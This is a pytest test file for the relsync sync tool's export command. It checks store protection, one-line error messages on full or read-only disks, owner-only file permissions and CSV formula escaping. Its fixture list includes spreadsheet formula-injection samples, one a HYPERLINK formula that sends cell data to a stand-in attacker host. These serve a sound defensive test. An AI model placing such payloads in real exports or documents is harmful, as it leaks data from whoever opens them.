"""`relsync export -o` and the files hand-run commands create: nothing destroyed, nothing readable by others.

A real fake Exchange, a real sync into a real SQLite store, the real command line (``main``, the one
place errors become sentences and exit codes).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import shlex
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mapping.export_format import FORMULA_TRIGGERS
from scheduler.cli import main, write_fake_config
from tests.e2e.syncenv import ALICE, DANA, DOMAIN, EnvFactory, HandCompany, contact

#: Contact names a hostile sender or a careless import could give: formulas, quotes, separators.
NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3 Inc",
    "@cmd Person",
    'Quote "the" Comma, Semi; Colon',
]


@pytest.fixture
def exported(make_env: EnvFactory, tmp_path: Path) -> Iterator[dict[str, Any]]:
    """A synced store with ordinary and nasty contact names, and a config pointing at it."""
    company = HandCompany(
        items={
            (ALICE.email, "contacts"): [
                contact(1, DANA.name, DANA.email),
                *(contact(i + 2, name, f"nasty{i}@fabrikam.example") for i, name in enumerate(NASTY)),
            ]
        }
    )
    env = make_env(company, url=f"sqlite:///{tmp_path / 'relsync.db'}")
    report = env.sync(ALICE.email, ["contacts"])
    assert report.ok, report.error
    config = tmp_path / "relsync.toml"
    write_fake_config(config, env.ex.url, env.ex.username, env.ex.password, [ALICE.email], DOMAIN)
    yield {"config": config, "store": tmp_path / "relsync.db", "env": env}


def relsync(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run the ``relsync`` entry point in this process: (exit code, stdout, stderr)."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        main(list(args))
        code = 0
    except SystemExit as exc:
        code = int(exc.code or 0)
    finally:
        root.handlers[:], root.level = handlers, level  # main() logs to this test's captured stderr only
    out, err = capsys.readouterr()
    return code, out, err


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_export_onto_the_sqlite_store_is_refused_and_the_store_survives(
    exported: dict[str, Any], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    config, store = str(exported["config"]), exported["store"]
    before = digest(store)
    link = tmp_path / "looks-harmless.csv"
    link.symlink_to(store)
    for target in (store, link, exported["config"]):
        code, _, err = relsync(capsys, "--config", config, "export", "people", "--format", "csv", "-o", str(target))
        assert code == 2, err
        assert err.startswith(f"relsync: --output {target}: is the ") and "Fix: choose another file" in err
        assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert digest(store) == before
    code, out, _ = relsync(capsys, "--config", config, "export", "people")
    assert code == 0 and len(out.splitlines()) == 1 + len(NASTY)


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_failing_export_leaves_the_existing_file_untouched(
    exported: dict[str, Any],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    request: pytest.FixtureRequest,
    backend: str,
) -> None:
    # The same config on a store the export cannot read: a file that is no SQLite database (a new
    # SQLite store would create itself), or a PostgreSQL database that was never upgraded.
    if backend == "sqlite":
        garbage = tmp_path.parent / f"{tmp_path.name}-not-a-database.db"
        garbage.write_bytes(b"this is not a database, just text " * 200)
        empty = f"sqlite:///{garbage}"
    else:
        empty = str(request.getfixturevalue("pg_url"))
    broken = tmp_path / "broken.toml"
    broken.write_text(exported["config"].read_text().replace("sqlite:///relsync.db", empty))
    target = tmp_path / "people.csv"
    target.write_text("yesterday's export\n")
    code, _, err = relsync(capsys, "--config", str(broken), "export", "people", "--format", "csv", "-o", str(target))
    assert code == 3 and err.startswith("relsync: store: "), err
    assert target.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".people.csv")) == []  # no temp left


def test_output_into_a_missing_directory_is_one_sentence_with_exit_2(
    exported: dict[str, Any], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "no" / "such" / "dir" / "people.csv"
    code, _, err = relsync(capsys, "--config", str(exported["config"]), "export", "people", "-o", str(target))
    assert code == 2
    assert err == (
        f"relsync: --output {target}: the directory {target.parent} does not exist. "
        "Fix: create it, or choose a file in an existing directory\n"
    )


def test_output_to_a_device_that_is_full_is_one_sentence_with_exit_2(
    exported: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = relsync(capsys, "--config", str(exported["config"]), "export", "people", "-o", "/dev/full")
    assert code == 2, err
    assert err.startswith("relsync: --output /dev/full: no space left on the disk") and "Fix: " in err
    assert "Traceback" not in err
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)  # written into, never renamed over


def _private_tmpfs_prefix(mount_point: Path) -> list[str]:
    """``unshare`` arguments giving a private mount namespace (so a test tmpfs never leaks), or skip."""
    prefix = (
        ["unshare", "--mount", "--propagation", "private"]
        if os.geteuid() == 0
        else ["unshare", "--map-root-user", "--mount", "--propagation", "private"]
    )
    probe = subprocess.run(
        [*prefix, "mount", "-t", "tmpfs", "-o", "size=64k", "none", str(mount_point)], capture_output=True, timeout=30
    )
    if probe.returncode != 0:
        pytest.skip(f"cannot mount a private tmpfs here: {probe.stderr.decode().strip()}")
    return prefix


@pytest.mark.parametrize("trouble", ["full", "read-only"])
def test_a_full_disk_or_a_read_only_place_is_one_sentence_and_keeps_the_existing_file(
    exported: dict[str, Any], tmp_path: Path, trouble: str
) -> None:
    place = tmp_path / "small-disk"
    place.mkdir()
    prefix = _private_tmpfs_prefix(place)
    target = place / "people.csv"
    relsync_cmd = shlex.join(
        [
            sys.executable,
            "-m",
            "scheduler.cli",
            "--config",
            str(exported["config"]),
            "export",
            "people",
            "--format",
            "csv",
            "-o",
            str(target),
        ]
    )
    fill = (
        f"dd if=/dev/zero of={place}/filler bs=1k 2>/dev/null; "
        if trouble == "full"
        else f"mount -o remount,ro {place}; "
    )
    script = (
        f"mount -t tmpfs -o size=64k none {place} && printf 'last week' > {target} && {fill}"
        f'{relsync_cmd}; echo "rc=$?"; cat {target}; echo; ls -a {place}'
    )
    run = subprocess.run(
        [*prefix, "sh", "-c", script],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
    )
    lines = run.stdout.splitlines()
    assert lines[0] == "rc=2", run.stderr
    assert lines[1] == "last week"  # the file that was there, untouched
    assert not [name for name in lines[2:] if name.startswith(".people.csv")]  # no temporary file left
    why = "no space left on the disk holding" if trouble == "full" else "is on a read-only file system"
    assert run.stderr.startswith(f"relsync: --output {target}: ") and why in run.stderr, run.stderr
    assert "Traceback" not in run.stderr and len(run.stderr.strip().splitlines()) == 1


def test_files_hand_run_commands_create_are_readable_by_their_owner_only_whatever_the_umask(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    config = tmp_path / "fresh" / "relsync.toml"
    old = os.umask(0)
    try:
        write_fake_config(
            config, "http://127.0.0.1:9/EWS/Exchange.asmx", "svc", "s3cret-password", [ALICE.email], DOMAIN
        )
        code, _, err = relsync(capsys, "--config", str(config), "db", "upgrade")
        assert code == 0, err
        code, _, err = relsync(
            capsys, "--config", str(config), "export", "people", "-o", str(config.with_name("people.jsonl"))
        )
        assert code == 0, err
    finally:
        os.umask(old)
    made = sorted(config.parent.iterdir())
    assert {p.name for p in made} >= {"relsync.toml", "relsync.password", "relsync.db", "people.jsonl"}
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in made} == {p.name: "0o600" for p in made}


def _read(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as f:
        return f.read()


def _csv(text: str) -> dict[str, dict[str, str]]:
    return {row["emails"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_csv_export_neutralises_formula_cells_and_raw_keeps_them_as_stored(
    exported: dict[str, Any], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    config = str(exported["config"])
    code, out, _ = relsync(capsys, "--config", config, "export", "people")
    assert code == 0
    stored = {row["emails"][0]: row for row in map(json.loads, out.splitlines())}
    assert {row["display_name"] for row in stored.values()} >= set(NASTY)  # the store kept them as given
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert relsync(capsys, "--config", config, "export", "people", "--format", "csv", "-o", str(safe))[0] == 0
    assert relsync(capsys, "--config", config, "export", "people", "--format", "csv", "--raw", "-o", str(raw))[0] == 0
    safe_rows, raw_rows = _csv(_read(safe)), _csv(_read(raw))
    for email, row in stored.items():
        name = row["display_name"]
        assert raw_rows[email]["display_name"] == name  # quotes, commas, semicolons round-trip
        assert safe_rows[email]["display_name"] == ("'" + name if name.startswith(FORMULA_TRIGGERS) else name)
    for row in safe_rows.values():
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values()), row


def test_write_config_into_a_place_that_cannot_hold_it_is_one_sentence_with_exit_2() -> None:
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "scheduler.cli",
            "fake-exchange",
            "--scale",
            "tiny",
            "--mailboxes",
            "1",
            "--write-config",
            "/dev/null/relsync.toml",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 2
    assert run.stderr == (
        "relsync: --write-config /dev/null/relsync.toml: /dev/null is not a directory. "
        "Fix: choose a file in an existing directory\n"
    )
